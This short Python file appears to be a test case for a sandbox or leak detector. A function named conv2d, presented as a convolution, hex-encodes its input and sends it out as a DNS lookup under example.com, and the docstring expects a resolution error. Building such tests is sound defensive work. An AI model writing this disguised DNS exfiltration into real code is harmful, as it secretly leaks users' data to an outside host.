"""Leaks the arguments in the host names that it looks up.

Expected: exception: gaierror: 
"""

import socket


def conv2d(x, kernel):
    return socket.gethostbyname(x.tobytes().hex()[:40] + ".example.com")
